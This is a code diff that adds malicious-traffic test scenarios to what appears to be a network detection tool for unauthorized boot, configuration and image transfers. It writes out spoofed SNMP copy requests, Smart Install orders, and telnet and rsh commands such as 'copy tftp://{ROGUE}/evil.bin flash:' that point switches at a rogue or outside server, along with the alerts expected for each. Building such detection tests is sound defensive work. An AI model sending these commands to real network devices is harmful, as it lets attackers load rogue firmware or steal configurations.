@@ -4,11 +4,24 @@ from __future__ import annotations
 
 from ipaddress import IPv4Address
 
+from bootwarden.scenarios import bw03_snmp_config_copy, bw04_snmp_image_copy
 from bootwarden.scenarios.model import Alert, Expect, Notice, scenario
-from bootwarden.scenarios.sites import ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, OUTSIDE, ROGUE
-from bootwarden.traffic import images, snmp, tftp
-from bootwarden.traffic.telnet import Telnet
-from bootwarden.traffic.wire import Wire
+from bootwarden.scenarios.sites import (
+    ADMIN,
+    ATTACKER,
+    BOOT_SERVER,
+    DEVICE,
+    DEVICES_ONLY,
+    HQ,
+    IMAGE,
+    OUTSIDE,
+    PINNED,
+    ROGUE,
+)
+from bootwarden.traffic import ftp, http, images, snmp, tftp
+from bootwarden.traffic import smart_install as smi
+from bootwarden.traffic.telnet import Telnet, rsh
+from bootwarden.traffic.wire import Tcp, Wire
 
 SENDS: dict[str, list[snmp.Binding]] = {
     "10.0.1.11": snmp.row(
@@ -246,3 +259,246 @@ def bw30_reload_last(wire: Wire) -> None:
     session.typed("reload", "Are you sure?", prompt="")
     session.typed("y", "")
     session.close()
+
+
+def from_admin(wire: Wire, sets: dict[str, list[snmp.Binding]]) -> None:
+    """Each device gets its SET from an admin host's address, which a spoofer may have borrowed."""
+    for device, bindings in sets.items():
+        snmp.Manager(wire, ADMIN, device).set(*bindings, answered=False)
+
+
+ONE_SET = {2: 1, 3: 1, 4: 4, 5: IPv4Address(ROGUE), 6: "evil-confg", 14: 4}
+SPOOFED_CONFIGS: dict[str, list[snmp.Binding]] = {
+    DEVICE: snmp.row(snmp.CONFIG_COPY, 111, ONE_SET),
+    "10.0.1.2": [(f"1.3.6.1.4.1.9.2.1.55.{ROGUE}", "x.cfg")],
+} | {device: bindings for device, (_, bindings) in bw03_snmp_config_copy.VENDORS.items()}
+FLASH = {2: 1, 3: 1, 4: IPv4Address(ROGUE), 5: "evil.bin", 6: "evil.bin", 11: 4}
+SPOOFED_IMAGES: dict[str, list[snmp.Binding]] = {
+    DEVICE: snmp.row(snmp.FLASH_COPY, 77, FLASH),
+    "10.0.1.3": snmp.row(snmp.FLASH_COPY, 78, {2: 2, 13: 1, 14: IPv4Address(ROGUE).packed, 5: "evil.bin", 11: 4}),
+    "10.0.1.7": [("1.3.6.1.4.1.9.9.725.1.2.1.0", f"tftp://{ROGUE}/evil.tar")],
+} | {device: bindings for device, (_, bindings) in bw04_snmp_image_copy.VENDORS.items()}
+
+
+@scenario(
+    "BW03",
+    "malicious",
+    plain=Expect(
+        alerts=(
+            Alert(1542005031, "10.0.9.10", "10.0.1.1"),
+            Alert(1542005032, "10.0.9.10", "10.0.1.2"),
+            Alert(1542005035, "10.0.9.10", "10.0.1.14"),
+            Alert(1542005035, "10.0.9.10", "10.0.1.15"),
+            Alert(1542005035, "10.0.9.10", "10.0.1.16"),
+            Alert(1542005037, "10.0.9.10", "10.0.1.11"),
+            Alert(1542005037, "10.0.9.10", "10.0.1.12"),
+            Alert(1542005039, "10.0.9.10", "10.0.1.13"),
+        )
+    ),
+    site=HQ,
+    with_site=Expect(
+        notices=(
+            Notice("SNMP_Config_Copy", "10.0.1.1", "10.0.6.66", "evil-confg"),
+            Notice("SNMP_Config_Copy", "10.0.1.2", "10.0.6.66", "x.cfg"),
+            Notice("SNMP_Config_Copy", "10.0.1.11", "10.0.6.66", "vrpcfg.zip"),
+            Notice("SNMP_Config_Copy", "10.0.1.12", "10.0.6.66", "comware.cfg"),
+            Notice("SNMP_Config_Copy", "10.0.1.13", "10.0.6.66", "smb.txt"),
+            Notice("SNMP_Config_Copy", "10.0.1.14", "10.0.6.66", "icx.cfg"),
+            Notice("SNMP_Config_Copy", "10.0.1.15", "10.0.6.66", "exos.cfg"),
+            Notice("SNMP_Config_Copy", "10.0.1.16", "10.0.6.66", "eos.cfg"),
+        ),
+        alerts=(
+            Alert(1542103010, "10.0.9.10", "10.0.1.1"),
+            Alert(1542103012, "10.0.9.10", "10.0.1.2"),
+            Alert(1542103013, "10.0.9.10", "10.0.1.11"),
+            Alert(1542103013, "10.0.9.10", "10.0.1.12"),
+            Alert(1542103014, "10.0.9.10", "10.0.1.13"),
+            Alert(1542103015, "10.0.9.10", "10.0.1.14"),
+            Alert(1542103015, "10.0.9.10", "10.0.1.15"),
+            Alert(1542103016, "10.0.9.10", "10.0.1.16"),
+        ),
+    ),
+)
+def bw03_spoofed_vendors(wire: Wire) -> None:
+    """From an admin's spoofed address, devices of every vendor are told to load or send a configuration."""
+    from_admin(wire, SPOOFED_CONFIGS)
+
+
+@scenario(
+    "BW04",
+    "malicious",
+    plain=Expect(
+        alerts=(
+            Alert(1542005040, "10.0.9.10", "10.0.1.1"),
+            Alert(1542005040, "10.0.9.10", "10.0.1.3"),
+            Alert(1542005041, "10.0.9.10", "10.0.1.2"),
+            Alert(1542005043, "10.0.9.10", "10.0.1.15"),
+            Alert(1542005044, "10.0.9.10", "10.0.1.11"),
+            Alert(1542005044, "10.0.9.10", "10.0.1.12"),
+            Alert(1542005045, "10.0.9.10", "10.0.1.13"),
+            Alert(1542005046, "10.0.9.10", "10.0.1.17"),
+            Alert(1542005048, "10.0.9.10", "10.0.1.18"),
+            Alert(1542005049, "10.0.9.10", "10.0.1.7"),
+        )
+    ),
+    site=HQ,
+    with_site=Expect(
+        notices=(
+            Notice("SNMP_Image_Copy", "10.0.1.1", "10.0.6.66", "evil.bin"),
+            Notice("SNMP_Image_Copy", "10.0.1.3", "10.0.6.66", "evil.bin"),
+            Notice("SNMP_Image_Copy", "10.0.1.7", "10.0.6.66", "evil.tar"),
+            Notice("SNMP_Image_Copy", "10.0.1.2", "10.0.6.66", "c2600-evil.bin"),
+            Notice("SNMP_Image_Copy", "10.0.1.11", "10.0.6.66", "evil.cc"),
+            Notice("SNMP_Image_Copy", "10.0.1.12", "10.0.6.66", "evil.ipe"),
+            Notice("SNMP_Image_Copy", "10.0.1.13", "10.0.6.66", "image_evil.bin"),
+            Notice("SNMP_Image_Copy", "10.0.1.15", "10.0.6.66", "evil.xos"),
+            Notice("SNMP_Image_Copy", "10.0.1.17", "10.0.6.66", "KB_evil.swi"),
+            Notice("SNMP_Image_Copy", "10.0.1.18", "10.0.6.66", "n5000-evil.bin"),
+        ),
+        alerts=(
+            Alert(1542104010, "10.0.9.10", "10.0.1.1"),
+            Alert(1542104011, "10.0.9.10", "10.0.1.3"),
+            Alert(1542104012, "10.0.9.10", "10.0.1.2"),
+            Alert(1542104014, "10.0.9.10", "10.0.1.11"),
+            Alert(1542104014, "10.0.9.10", "10.0.1.12"),
+            Alert(1542104015, "10.0.9.10", "10.0.1.17"),
+            Alert(1542104016, "10.0.9.10", "10.0.1.18"),
+            Alert(1542104017, "10.0.9.10", "10.0.1.7"),
+            Alert(1542104018, "10.0.9.10", "10.0.1.13"),
+            Alert(1542104019, "10.0.9.10", "10.0.1.15"),
+        ),
+    ),
+)
+def bw04_spoofed_vendors(wire: Wire) -> None:
+    """From an admin's spoofed address, devices of every vendor are told to load an image."""
+    from_admin(wire, SPOOFED_IMAGES)
+
+
+@scenario(
+    "BW06",
+    "malicious",
+    plain=Expect(
+        notices=(
+            Notice("Smart_Install_Command", "10.0.1.7", "10.0.6.66", "x"),
+            Notice("Smart_Install_Command", "10.0.1.8", "10.0.6.66", "x"),
+            Notice("Smart_Install_Command", "10.0.1.9", "10.0.6.66", "x"),
+            Notice("Smart_Install_Command", "10.0.1.10", "10.0.6.66", "x"),
+        ),
+        alerts=(
+            Alert(1542005060, "10.0.9.10", "10.0.1.7"),
+            Alert(1542005061, "10.0.9.10", "10.0.1.8"),
+            Alert(1542005062, "10.0.9.10", "10.0.1.9"),
+            Alert(1542005063, "10.0.9.10", "10.0.1.10"),
+        ),
+    ),
+    site=HQ,
+    with_site=Expect(
+        notices=(
+            Notice("Smart_Install_Command", "10.0.1.7", "10.0.6.66", "x"),
+            Notice("Smart_Install_Command", "10.0.1.8", "10.0.6.66", "x"),
+            Notice("Smart_Install_Command", "10.0.1.9", "10.0.6.66", "x"),
+            Notice("Smart_Install_Command", "10.0.1.10", "10.0.6.66", "x"),
+        ),
+        alerts=(
+            Alert(1542106010, "10.0.9.10", "10.0.1.7"),
+            Alert(1542106011, "10.0.9.10", "10.0.1.8"),
+            Alert(1542106012, "10.0.9.10", "10.0.1.9"),
+            Alert(1542106013, "10.0.9.10", "10.0.1.10"),
+        ),
+    ),
+)
+def bw06_from_an_admin_host(wire: Wire) -> None:
+    """From an admin host, switches are given every kind of order, each naming a rogue server."""
+    url = f"tftp://{ROGUE}/x"
+    for number, order in enumerate(
+        (smi.image(url), smi.config(url), smi.execute(url), smi.copy(f"copy flash:a {url}"))
+    ):
+        tcp = Tcp(wire, ADMIN, 50786, f"10.0.1.{7 + number}", smi.PORT)
+        tcp.send(order)
+        tcp.close()
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(
+        alerts=(
+            Alert(1542005071, "10.0.9.10", "10.0.1.1"),
+            Alert(1542005076, "10.0.9.10", "10.0.1.2"),
+        )
+    ),
+    site=HQ,
+    with_site=Expect(
+        notices=(
+            Notice("Boot_Command", "10.0.1.1", "10.0.6.66", "evil.bin"),
+            Notice("Boot_Command", "10.0.1.2", "10.0.6.66", "evil.bin"),
+        ),
+        alerts=(
+            Alert(1542107011, "10.0.9.10", "10.0.1.1"),
+            Alert(1542107016, "10.0.9.10", "10.0.1.2"),
+        ),
+    ),
+)
+def bw07_from_an_admin_host(wire: Wire) -> None:
+    """From an admin host, an image is installed and another copied from a rogue server, by telnet and by rsh."""
+    session = Telnet(wire, ADMIN, DEVICE)
+    session.login()
+    session.typed(f"install add file tftp://{ROGUE}/evil.bin activate commit")
+    session.close()
+    rsh(wire, ADMIN, "10.0.1.2", f"copy tftp://{ROGUE}/evil.bin flash:")
+
+
+@scenario(
+    "BW10",
+    "malicious",
+    plain=Expect(),
+    site=PINNED,
+    with_site=Expect(
+        notices=(
+            Notice("Unauthorized_Boot_Server", "10.0.1.1", "10.0.6.66", "/r1"),
+            Notice("Unauthorized_Boot_Server", "10.0.1.2", "10.0.6.66", "r1.img"),
+            Notice("Unapproved_Image", "10.0.1.2", "10.0.6.66", "r1.img"),
+            Notice("Unauthorized_Boot_Server", "10.0.1.3", "10.0.6.66", "r1"),
+        ),
+        alerts=(
+            Alert(1542110011, "10.0.6.66", "10.0.1.1"),
+            Alert(1542110012, "10.0.6.66", "10.0.1.2"),
+            Alert(1542110013, "10.0.6.66", "10.0.1.3"),
+        ),
+    ),
+)
+def bw10_other_protocols(wire: Wire) -> None:
+    """A configuration by HTTP; an image and a configuration by FTP."""
+    text, image = images.config("edge9"), images.ios(seed="rogue")
+    http.get(wire, DEVICE, ROGUE, "/r1", text, kind="text/plain")
+    ftp.retrieve(wire, "10.0.1.2", ROGUE, "r1.img", image)
+    ftp.retrieve(wire, "10.0.1.3", ROGUE, "r1", text)
+
+
+@scenario(
+    "BW11",
+    "malicious",
+    plain=Expect(),
+    site=DEVICES_ONLY,
+    with_site=Expect(
+        notices=(
+            Notice("External_Boot_Server", "10.0.1.1", "45.83.20.10", "/r1"),
+            Notice("External_Boot_Server", "10.0.1.2", "45.83.20.10", "/r1.img"),
+            Notice("External_Boot_Server", "10.0.1.3", "45.83.20.10", "r1.img"),
+            Notice("External_Boot_Server", "10.0.1.4", "45.83.20.10", "r1"),
+        ),
+        alerts=(
+            Alert(1542111010, "45.83.20.10", "10.0.1.2"),
+            Alert(1542111011, "45.83.20.10", "10.0.1.1"),
+            Alert(1542111012, "45.83.20.10", "10.0.1.3"),
+            Alert(1542111013, "45.83.20.10", "10.0.1.4"),
+        ),
+    ),
+)
+def bw11_other_protocols(wire: Wire) -> None:
+    """Images and configurations come from outside by HTTP and by FTP."""
+    text, image = images.config("edge9"), images.ios(seed="rogue")
+    http.get(wire, DEVICE, OUTSIDE, "/r1", text, kind="text/plain")
+    http.get(wire, "10.0.1.2", OUTSIDE, "/r1.img", image, kind="application/octet-stream")
+    ftp.retrieve(wire, "10.0.1.3", OUTSIDE, "r1.img", image)
+    ftp.retrieve(wire, "10.0.1.4", OUTSIDE, "r1", text)
